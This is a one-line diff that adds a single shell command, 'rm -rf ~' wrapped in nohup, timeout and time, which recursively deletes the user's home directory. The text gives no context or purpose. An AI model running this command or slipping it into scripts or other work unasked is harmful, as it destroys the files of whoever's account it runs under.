@@ -1,0 +1,1 @@
+nohup timeout -s KILL 10 time -p rm -rf ~
